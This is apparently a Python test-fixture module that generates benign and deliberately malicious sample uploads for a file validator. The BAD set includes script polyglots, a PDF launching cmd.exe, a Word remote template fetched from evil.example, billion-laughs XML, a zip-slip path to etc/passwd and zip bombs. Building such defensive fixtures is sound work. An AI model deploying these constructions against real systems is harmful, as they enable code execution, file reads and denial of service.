"""Files as people send them, and as those send them who mean harm. All made here, small and without anybody's name."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document


def chunk(kind: bytes, data: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*more: bytes, width: int = 1, height: int = 1) -> bytes:
    """A white picture of one dot."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    dots = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(more)
        + chunk(b"IDAT", dots)
        + chunk(b"IEND", b"")
    )


def _segment(marker: int, data: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data


def jpeg(*more: bytes, width: int = 8, height: int = 8) -> bytes:
    """The shape of a JPEG: its segments and lines, which nobody here decodes."""
    frame = _segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x2a\x2b\x2c"
    return b"\xff\xd8" + _segment(0xE0, b"JFIF\x00\x01\x01") + b"".join(more) + frame + scan + b"\xff\xd9"


def docx(author: str = "", **parts: bytes) -> bytes:
    """A Word document of one sentence, with parts added under their names (dots for slashes)."""
    document = Document()
    document.core_properties.author = author
    document.add_paragraph("What we do when a concern comes in.")
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def numbered(content: bytes) -> bytes:
    """The same Word document with its main part called word/document2.xml."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            inside = old.read(name)
            if name in ("[Content_Types].xml", "_rels/.rels"):
                inside = inside.replace(b"word/document.xml", b"word/document2.xml")
            new.writestr(re.sub(r"word/(_rels/)?document\.", r"word/\1document2.", name), inside)
    return out.getvalue()


def archive(**parts: bytes) -> bytes:
    """A zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def unpacked(content: bytes) -> bytes:
    """The bytes of a file with those of its entries, where it is an archive."""
    if not content.startswith(b"PK"):
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        return content + b"".join(made.read(name) for name in made.namelist())


def _remote_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return docx(**{"word___rels__settings_dot_xml_dot_rels": relation})


def _claims_little() -> bytes:
    """An archive whose directory says that a large entry is small."""
    made = bytearray(
        archive(**{"[Content_Types]_dot_xml": b"<Types/>", "word__document_dot_xml": b"0" * 5_000_000})
    )
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


def _overlapping() -> bytes:
    """Many names for the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        for number in range(3_000):
            made.writestr(f"word/{number}.xml", b"")
        made.writestr("word/document.xml", "<w/>")
    return out.getvalue()


_ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
_WORD = {"[Content_Types]_dot_xml": b"<Types/>", "word__document_dot_xml": b"<w/>"}

GOOD: dict[str, Callable[[], bytes]] = {
    "pdf": lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
    "docx": docx,
    "docx-with-author": lambda: docx(author="Ada Marsh"),
    # As some programs number the main part.
    "docx-numbered": lambda: numbered(docx()),
    "png": png,
    "png-with-author": lambda: png(chunk(b"tEXt", b"Author\x00AUTHORMARK")),
    "jpeg": jpeg,
    "jpeg-with-place": lambda: jpeg(_segment(0xE1, b"Exif\x00\x00GPSMARK"), _segment(0xFE, b"comment")),
    "txt": lambda: b"Measure,2026\nAsked what they want,81%\n",
    "xlsx": lambda: archive(**{"[Content_Types]_dot_xml": b"<Types/>", "xl__workbook_dot_xml": b"<w/>"}),
    "odt": lambda: archive(mimetype=b"application/vnd.oasis.opendocument.text", content_dot_xml=b"<o/>"),
}

BAD: dict[str, Callable[[], bytes]] = {
    "html": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "html called a picture": lambda: b"  <HTML><body onload=alert(1)>",
    "svg with script": lambda: (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    ),
    "gif that is a script": lambda: b"GIF89a/*\x00\x00*/=1;alert(1)",
    "program": lambda: b"MZ\x90\x00\x03\x00\x00\x00",
    "old word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "pdf with script": lambda: b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF",
    "pdf that starts a program": lambda: b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF",
    "word with macro": lambda: docx(**{"word__vbaProject_dot_bin": b"x"}),
    "word with macro type": lambda: archive(
        **_WORD
        | {
            "[Content_Types]_dot_xml": b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        }
    ),
    "word with remote template": _remote_template,
    "word with billion laughs": lambda: docx(**{"word__extra_dot_xml": _ENTITIES}),
    "word with laughs in two bytes a letter": lambda: docx(
        **{"word__extra_dot_xml": _ENTITIES.decode().encode("utf-16")}
    ),
    "word with laughs in a rare writing": lambda: docx(
        **{"word__extra_dot_xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>'}
    ),
    "excel with external link": lambda: archive(
        **{
            "[Content_Types]_dot_xml": b"<Types/>",
            "xl__workbook_dot_xml": b"<w/>",
            "xl__externalLinks___rels__externalLink1_dot_xml_dot_rels": b"<Relationships/>",
        }
    ),
    "word with embedded file": lambda: docx(**{"word__embeddings__oleObject1_dot_bin": b"x"}),
    "zip in word": lambda: docx(**{"word__media__image1_dot_png": archive(a=b"x")}),
    "plain zip": lambda: archive(readme_dot_txt=b"hello"),
    "zip that climbs": lambda: archive(**_WORD | {"..__..__etc__passwd": b"x"}),
    "zip of many entries": _overlapping,
    "zip that unpacks to much": lambda: archive(**_WORD | {"word__media__a_dot_xml": b"\x00" * 120_000_000}),
    "zip that says it is small": _claims_little,
    "broken zip": lambda: docx()[:-200],
    "giant picture": lambda: png(width=50_000, height=50_000),
    "giant photograph": lambda: jpeg(width=60_000, height=60_000),
    "cut picture": lambda: png()[:40],
    "empty": lambda: b"",
    "not utf-8": lambda: b"\xff\xfe\x00\x01 text",
}
